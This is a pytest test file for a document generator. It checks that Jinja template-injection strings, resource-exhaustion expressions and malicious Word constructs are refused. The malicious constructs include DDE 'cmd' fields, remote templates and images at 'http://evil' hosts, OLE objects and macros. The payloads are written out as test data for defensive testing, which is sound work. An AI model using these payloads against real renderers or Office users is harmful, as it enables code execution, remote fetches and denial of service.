"""Templates as attack: whatever a template tries, it is refused by name and place, in bounded time and memory."""

from __future__ import annotations

import io
import resource
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import docx
import pytest

from docgen.form.load import load_form
from docgen.form.model import Form
from docgen.kit.errors import DocgenError, TemplateError
from docgen.report.figure import Figure
from docgen.template.check import check_template
from docgen.template.sample import sample_context
from docgen.word.anatomy import MAX_PART
from docgen.word.program import MAX_OUTPUT, MAX_STEPS
from docgen.word.render import load_program
from tests.packages import changed, with_parts, zipped
from tests.word_templates import HEAD, R, W, document, filled, paragraph, run, shipped, template

PATIENCE = 60
CONTEXT: dict[str, Any] = {"a": "甲", "x": "乙", "items": ["一", "二"], "agency": {"name": "某局"}, "config": {"secret": "密"}}


@pytest.fixture(autouse=True)
def no_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.setenv("DOCGEN_CACHE", str(tmp_path))
    load_program.cache_clear()
    yield
    load_program.cache_clear()


def refused(source: bytes, context: dict[str, Any] | None = None) -> str:
    """The message a template is refused with. It must come within a minute, and so must the lint's word on it."""
    caught: list[BaseException] = []

    def attempt() -> None:
        try:
            check_template(source, load_form("zfxxgk-2021"))
            filled(source, CONTEXT if context is None else context)
        except BaseException as error:
            caught.append(error)

    worker = threading.Thread(target=attempt, daemon=True)
    worker.start()
    begun = time.process_time()  # not by the clock: a busy machine takes longer for the same
    for _second in range(10 * PATIENCE):
        worker.join(1)
        if not worker.is_alive() or time.process_time() - begun > PATIENCE:
            break
    assert not worker.is_alive(), "the template is still being rendered"
    assert caught, "the template was rendered"
    assert isinstance(caught[0], DocgenError), repr(caught[0])
    assert caught[0].cure
    return caught[0].message


@pytest.mark.parametrize(
    "tag",
    [
        "{{ ''.__class__ }}",
        "{{ a.__class__.__mro__ }}",
        "{{ a._x }}",
        "{{ __builtins__ }}",
        "{{ _properties.title }}",
        "{{ cycler.__init__ }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ self.__init__ }}",
        "{{ x|attr('__class__') }}",
        "{{ x|map(attribute='__class__')|join }}",
        "{{ x|map('attr', '__class__')|join }}",
        "{{ a['__class__'] }}",
        "{{ a['__cla' ~ 'ss__'] }}",
        "{{ agency[items] }}",
        "{{ [].append(1) }}",
        "{{ '{0.__class__}'.format(a) }}",
        "{{ '{0.__class__}'|format(a) }}",
        "{{ '%(a.__class__)s'|format(a=a) }}",
        "{{ namespace.__init__ }}",
        "{{ range.__self__ }}",
        "{{ (range)(3).count }}",
        "{{ namespace(__class__=a) }}",
        "{{ loop.index }}",
        "{{ caller() }}",
        "{{ super() }}",
        "{{ dict(a=1) }}",
        "{{ joiner() }}",
        "{{ items|groupby('__class__') }}",
        "{{ items|sum(attribute='__len__') }}",
        "{% set loop = a %}",
        "{% set range = a %}{{ range(3) }}",
        "{% set x.y = a %}",
        "{% set x.y %}x{% endset %}",
        "{% set _b %}x{% endset %}",
        "{% set b %}{{ a.__class__ }}{% endset %}{{ b }}",
        "{% set b | safe %}x{% endset %}{{ b }}",
        "{% set b %}x",
        "x{% endset %}",
        "{% set namespace = items %}",
        "{% set _a = 1 %}",
        "{% for _a, b in agency|items %}x{% endfor %}",
        "{% for i in agency %}x{% endfor %}",
        "{% for i in a %}x{% endfor %}",
        "{% for i in items %}{{ loop.__init__ }}{% endfor %}",
        "{% for i in items %}{{ loop.previtem.__class__ }}{% endfor %}",
        "{% for i in items recursive %}{{ loop(items) }}{% endfor %}",
        "{{tr a }}",
        "{{tc a }}",
        "{% colspan a %}",
        "{% cellbg '\"/&gt;' %}",
        "{{ x|safe }}",
        "{{ a.upper() }}",
        "{{ range(3) }}",
        "{{ lipsum() }}",
        "{{ 'a' * 1000000000 }}",
        "{{ 9**9**9 }}",
        "{{ a, x }}",
        "{{ [a] }}",
        "{{ {a: x} }}",
        "{{ loop.cycle }}",
        "{% for i in range(10**9) %}x{% endfor %}",
        "{% for i in items recursive %}x{% endfor %}",
        "{% for i, j in items %}x{% endfor %}",
        "{% for _ in items %}x{% endfor %}",
        "{% for loop in items %}x{% endfor %}",
        "{% for agency.name in items %}x{% endfor %}",
        "{% for i in 'abc' %}x{% endfor %}",
        "{% if a() %}x{% endif %}",
        "{% if a.b.c() == 1 %}x{% endif %}",
        "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
        "{% include 'x' %}",
        "{% import 'os' as os %}",
        "{% from 'os' import system %}",
        "{% extends 'x' %}",
        "{% block b %}{% endblock %}",
        "{% call a() %}{% endcall %}",
        "{% filter upper %}a{% endfilter %}",
        "{% autoescape false %}{{ a }}{% endautoescape %}",
        "{% do a.append(1) %}",
        "{% print a %}",
        "{% colspan 3 %}",
        "{% cellbg 'FF0000' %}",
        "{% vm %}",
        "{% hm %}",
    ],
)
def test_what_reaches_beyond_the_data_is_refused_with_its_place(tag: str) -> None:
    assert "正文第2段" in refused(template("第一段", tag))


def test_the_lint_refuses_the_same_and_says_where(form: Form) -> None:
    found = check_template(template("第一段", "{{ ''.__class__ }}", "{% for i in items() %}x{% endfor %}"), form)
    assert [(f.code, f.cell) for f in found if f.code == "T109"] == [("T109", "第2段"), ("T109", "第3段")]


EXPENSIVE = [
    "{% set b = 'aaaaaaaa' %}" + "{% set b %}{{ b }}{{ b }}{{ b }}{{ b }}{% endset %}" * 20 + "{{ b|length }}",
    "{% set b %}{% for i in range(99999) %}{% for j in range(9) %}{{ a }}{% endfor %}{% endfor %}{% endset %}",
    "{{ 'a' * 1000000000 }}",
    "{{ 1000000000 * 'a' }}",
    "{{ [a] * 1000000000 }}",
    "{{ 9**9**9**9 }}",
    "{{ 2**100000000 }}",
    "{{ 2.0**100000 }}",
    "{{ n ** 99999999 }}",
    "{{ n * 10 ** 60 * 10 ** 60 }}",
    "{{ (n / 3) ** 100000 }}",
    "{{ 'a'|center(1000000000) }}",
    "{{ 'a'|indent(1000000000) }}",
    "{{ '%1000000000d'|format(1) }}",
    "{{ '%1000000000d' % 1 }}",
    "{{ '%.1000000000f' % 1 }}",
    "{{ '%*d' % (1000000000, 1) }}",
    "{{ 1|round(1000000000) }}",
    "{{ items|batch(1000000000, 'x')|list|length }}",
    "{{ items|slice(1000000000)|list|length }}",
    "{{ range(1000000000)|list|length }}",
    "{{ range(1000000000)|sum }}",
    "{{ range(10**30)|join }}",
    "{{ range(0, 10**9, 1)|map('string')|join }}",
    "{{ ('a' * 90000)|replace('a', 'a' * 90000) }}",
    "{{ ('a' * 90000)|list|join('a' * 90000) }}",
    "{{ 'a b '|wordwrap(1, true, 'x' * 90000) }}",
    "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}",
    "{% for a in range(50000) %}" * 4 + "{% endfor %}" * 4,
    "{% for a in range(90000) %}{{ 'a' * 90000 }}{% endfor %}",
    "{% for a in range(90000) if 'b' in 'a' * 90000 %}{% endfor %}" * 9,
    "{% for a in range(90000) %}{{ range(90000)|sum }}{% endfor %}",
    "{% for a in range(90000) %}{{ range(90000)|map('string')|map('upper')|list|length }}{% endfor %}",
    "{% for a in range(90000) %}" + "长" * 3000 + "{% endfor %}",
    "{% set s = 'aaaaaaaaaaaaaaaa' %}" + "{% set s = s ~ s %}" * 60,
    "{% set s = 'aaaaaaaaaaaaaaaa' %}" + "{% set s = s + s %}" * 60,
    "{% set s = [1] %}" + "{% set s = s + s %}" * 60,
    "{% set s = [1] %}" + "{% set s = [s, s] %}" * 60 + "{{ s == s }}",
    "{% set s = {'a': 1} %}" + "{% set s = {'a': s, 'b': s} %}" * 60,
    "{% set s = (1,) %}" + "{% set s = (s, s) %}" * 60 + "{{ s|string }}",
    "{% set s = [1] %}" + "{% set s = s|batch(900, s)|list %}" * 9,
    "{% set s = 3 %}" + "{% set s = s * s %}" * 60,
    "{% set s = namespace(t='aaaaaaaaaaaaaaaa') %}{% for i in range(99) %}{% set s.t = s.t ~ s.t %}{% endfor %}",
    "{{ " + "(" * 60 + "a" + "|upper)" * 60 + " ~ " + "-" * 100 + "a }}",
    "{{ a" + "|upper" * 63 + "|no }}",
    "{{ items" + "|map('list')" * 30 + "|join }}",
    "{{ " + "[" * 190 + "]" * 190 + " }}",
    "{{ " + "items if x else " * 20 + "a }}",
    "{{ " + "not " * 95 + "a }}",
]


@pytest.mark.parametrize("tag", EXPENSIVE, ids=lambda tag: f"{tag[:40]}…{len(tag)}")
def test_what_would_take_time_or_memory_without_end_is_refused_in_time(tag: str) -> None:
    before = memory_used()
    refused(template("第一段", tag), {**CONTEXT, "n": Figure("7")})
    assert memory_used() - before < 500


def memory_used() -> float:
    """The most memory this process has taken, in MB."""
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


def test_a_value_of_the_data_is_never_read_as_a_template_or_as_xml() -> None:
    evil = "{{ 7*7 }}{% for x in y %}</w:t></w:r><w:p/>&lt;"
    data = filled(template("{{ a|upper }}{{ a ~ a }}{{ [a]|join }}{{ a|default('x') }}{{ a|e }}"), {"a": evil})
    assert docx.Document(io.BytesIO(data)).paragraphs[0].text == evil.upper() + evil * 5


def test_names_reach_the_data_and_never_an_objects_attributes() -> None:
    for tag in ("{{ a.upper }}", "{{ agency.items }}", "{{ items.append }}", "{{ agency.name.title }}"):
        assert "没有对应的数据" in refused(template(tag))
        assert "没有对应的数据" in refused(template(tag + "{{ 1 + 1 }}"))


def test_loops_within_loops_end_at_a_bound() -> None:
    items = [str(n) for n in range(100)]
    source = template("{% for a in l %}" * 8 + "x" + "{% endfor %}" * 8)
    assert "太多" in refused(source, {"l": items})
    assert MAX_STEPS < 100**8


def test_output_ends_at_a_bound_before_memory_does() -> None:
    source = template("{% for a in l %}{% for a in l %}" + "长" * 100_000 + "{% endfor %}{% endfor %}")
    assert "太多" in refused(source, {"l": ["x"] * 100})
    assert MAX_OUTPUT < 100_000 * 100 * 100
    assert "太多" in refused(template("{% for a in l %}{{ v }}{% endfor %}"), {"l": ["x"] * 1000, "v": "长" * 1_000_000})


@pytest.mark.parametrize(
    "body",
    [
        "{{ " + "(" * 5000 + "a" + ")" * 5000 + " }}",
        "{{ " + "(" * 150 + "a" + ")" * 150 + " }}",
        "{{ a" + ".b" * 100_000 + " }}",
        "{% if " + "not " * 90 + "a" + ".b" * 20 + " %}x{% endif %}",
        "{% if a %}" * 2000 + "{% endif %}" * 2000,
        "{% if a %}" * 5000,
        "{{ a }}" * 20_000,
        "{# {{ #}" * 20_000,
        "{{" * 100_000,
        "{%" * 100_000,
        "{" * 200_001,
        "}}{{" * 50_000,
        "{{ a" * 50_000,
    ],
    ids=lambda body: f"{body[:12]}…{len(body)}",
)
def test_a_template_built_to_be_slow_is_refused_in_time(body: str) -> None:
    refused(template(body))


@pytest.mark.parametrize(
    "body",
    [
        "<w:p>" + run("{") * 20_000 + "</w:p>",
        "".join(paragraph("{") for _n in range(5000)) + paragraph("{{ a }}"),
        '<w:p><w:sdt><w:sdtPr><w:alias w:val="' + "{{" * 50_000 + '"/></w:sdtPr></w:sdt>' + run("{{ a }}") + "</w:p>",
        "<w:p>" + "<w:r><w:t>x</w:t></w:r>" * 20_000 + run("{% vm %}") + "</w:p>",
    ],
    ids=["split braces", "braces apart", "braces in attributes", "many runs"],
)
def test_xml_built_to_be_slow_is_refused_in_time(body: str) -> None:
    refused(template(body))


def test_a_part_too_large_to_be_a_template_is_refused() -> None:
    assert "太大" in refused(template("长" * (MAX_PART // 3 + 1000)))


@pytest.mark.parametrize(
    "body",
    [
        f"<w:p>{run('{{ a }}')}<w:r><w:instrText>{{{{ a }}}}</w:instrText></w:r></w:p>",
        f'<w:p><w:pPr><w:pStyle w:val="{{{{ a }}}}"/></w:pPr>{run("{{ a }}")}</w:p>',
        f'<w:p><w:hyperlink r:id="{{{{ a }}}}">{run("{{ a }}")}</w:hyperlink></w:p>',
        f"<w:p><w:del><w:r><w:delText>{{{{ a }}}}</w:delText></w:r></w:del>{run('{{ a }}')}</w:p>",
        f"<w:p>{run('{{ a }}')}</w:p><w:t>{{{{ a }}}}</w:t>",
        f"<w:p>{run('{{ a }}')}</w:p>{{{{ a }}}}",
    ],
)
def test_a_value_can_only_land_in_the_text_of_a_paragraph(body: str) -> None:
    refused(template(body))


FIELD = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{code}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
    '<w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)


def field(*codes: str) -> str:
    return FIELD.format(code="".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes))


def relation(kind: str, target: str, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="rIdX" Type="{R}/{kind}" Target="{target}"{mode}/>'


FOREIGN = f"{HEAD}<x:settings xmlns:x='{W}'><x:mailMerge/></x:settings>"
HOSTILE: list[tuple[str, str, bytes]] = [
    ("T135", "DDE", template(field(" DDE cmd /c"))),
    ("T135", "DDEAUTO in pieces", template(field(" DD", "EAUTO c:\\\\windows cmd"))),
    ("T135", "INCLUDETEXT", template(field(' INCLUDETEXT "http://x/y"'))),
    ("T135", "INCLUDEPICTURE", template(field(' includepicture "http://x/y" \\d'))),
    ("T135", "LINK", template(field(" LINK Excel.Sheet"))),
    ("T135", "MACROBUTTON", template(field(" MACROBUTTON x y"))),
    ("T135", "simple field", template(f'<w:p><w:fldSimple w:instr=" DDEAUTO x ">{run("1")}</w:fldSimple></w:p>')),
    ("T135", "hidden in an IF", template(field(" IF 1=1 ", ' INCLUDETEXT "x"'))),
    (
        "T135",
        "name built by another field",
        template(
            "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r>"
            + field(" QUOTE 68 68 69 ")[5:-6]
            + "<w:r><w:instrText> cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>"
        ),
    ),
    ("T135", "in a header", template("正文", header=field(" DDEAUTO x"))),
    ("T131", "field link to a file", template(field(' HYPERLINK "file:///c:/x.exe"'))),
    (
        "T131",
        "remote template",
        with_parts(
            template("正文"),
            {
                "word/_rels/settings.xml.rels": f'{HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                f'relationships">{relation("attachedTemplate", "http://evil/x.dotm")}</Relationships>'
            },
        ),
    ),
    ("T131", "linked image", template("正文", rels=relation("image", "http://evil/x.png"))),
    ("T131", "image on a share", template("正文", rels=relation("image", "\\\\evil\\x.png", external=False))),
    ("T131", "linked stylesheet", template("正文", rels=relation("frame", "file:///c:/x"))),
    ("T131", "script link", template("正文", rels=relation("hyperlink", "javascript:alert(1)"))),
    (
        "T131",
        "picture by address",
        template(
            '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://evil/x"/></v:shape>'
            "</w:pict></w:r></w:p>"
        ),
    ),
    ("T131", "mail merge under another prefix", template("正文", settings=FOREIGN)),
    ("T133", "OLE relation", template("正文", rels=relation("oleObject", "embeddings/o.bin", external=False))),
    ("T133", "embedded file", with_parts(template("正文"), {"word/embeddings/o.bin": b"x"})),
    ("T133", "control", template("<w:p><w:r><w:object/></w:r></w:p>")),
    ("T134", "altChunk", template('<w:altChunk r:id="rIdX"/>')),
    ("T134", "altChunk relation", template("正文", rels=relation("aFChunk", "x.html", external=False))),
    ("T134", "subdocument", template('<w:p><w:subDoc r:id="rIdX"/></w:p>')),
    ("T132", "macros", with_parts(template("正文"), {"word/vbaProject.bin": b"x"})),
]


@pytest.mark.parametrize(("code", "source"), [(c, s) for c, _n, s in HOSTILE], ids=[name for _c, name, _s in HOSTILE])
def test_what_fetches_runs_or_embeds_is_refused_by_lint_and_by_rendering(form: Form, code: str, source: bytes) -> None:
    assert code in {finding.code for finding in check_template(source, form)}
    refused(source)


@pytest.mark.parametrize(
    "code", ["PAGE", "NUMPAGES", 'TOC \\o "1-3" \\h', "SEQ 表", "= 1 + 1", 'HYPERLINK "http://a.gov.cn"', "REF x \\h"]
)
def test_harmless_fields_are_let_in(form: Form, code: str) -> None:
    source = template(field(f" {code} "), "{{ a }}", rels=relation("hyperlink", "https://www.gov.cn/"))
    assert not {f.code for f in check_template(source, form)} & {"T131", "T135"}
    filled(source, CONTEXT)


@pytest.mark.parametrize("draft", [False, True])
def test_a_doctype_is_refused_in_every_part(form: Form, draft: bool) -> None:
    for name in ("word/document.xml", "word/styles.xml", "[Content_Types].xml", "_rels/.rels"):
        source = changed(template("{{ a }}"), lambda xml: xml.replace("?>", '?><!DOCTYPE x [<!ENTITY e "x">]>', 1), name)
        with pytest.raises(DocgenError):
            filled(source, CONTEXT, draft=draft)
        assert check_template(source, form)[0].code == "T101"


@pytest.mark.parametrize(
    "name", ["word/document.xml", "word/styles.xml", "word/_rels/document.xml.rels", "[Content_Types].xml"]
)
def test_broken_xml_is_refused_and_found(form: Form, name: str) -> None:
    source = changed(shipped(), lambda xml: xml[: len(xml) // 2], name)
    with pytest.raises(DocgenError):
        filled(source, sample_context(form))
    assert [finding.code for finding in check_template(source, form)] == ["T101"]


@pytest.mark.parametrize(
    "data", [b"", b"PK", b"hello", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600], ids=["empty", "PK", "text", "ole"]
)
def test_what_is_no_word_file_is_refused_and_found(form: Form, data: bytes) -> None:
    with pytest.raises(DocgenError):
        filled(data, CONTEXT)
    assert [finding.code for finding in check_template(data, form)] == ["T101"]


@pytest.mark.parametrize("draft", [False, True])
@pytest.mark.parametrize("cut", range(1, 10))
def test_a_template_cut_off_anywhere_is_refused(cut: int, draft: bool) -> None:
    whole = shipped()
    with pytest.raises(DocgenError):
        filled(whole[: len(whole) * cut // 10], CONTEXT, draft=draft)


@pytest.mark.parametrize("draft", [False, True])
@pytest.mark.parametrize("missing", ["word/document.xml", "_rels/.rels", "word/_rels/document.xml.rels", "word/header1.xml"])
def test_a_template_with_a_part_missing_never_ends_in_a_traceback(form: Form, missing: str, draft: bool) -> None:
    parts = document(paragraph("{{ a }}"), header=paragraph("页眉"))
    del parts[missing]
    source = zipped(parts)
    check_template(source, form)
    try:
        filled(source, CONTEXT, draft=draft)
    except DocgenError as error:
        assert error.cure


def test_an_output_never_carries_what_a_template_may_not(form: Form) -> None:
    made = filled(shipped(), {**sample_context(form), "title": 'INCLUDETEXT "http://x" {{ 7*7 }} <w:object/>'})
    assert not {f.code for f in check_template(made, form)} & {"T131", "T132", "T133", "T134", "T135"}


def test_a_name_with_a_template_error_is_never_swallowed() -> None:
    with pytest.raises(TemplateError):
        filled(template("{% if nowhere %}x{% endif %}"), CONTEXT)
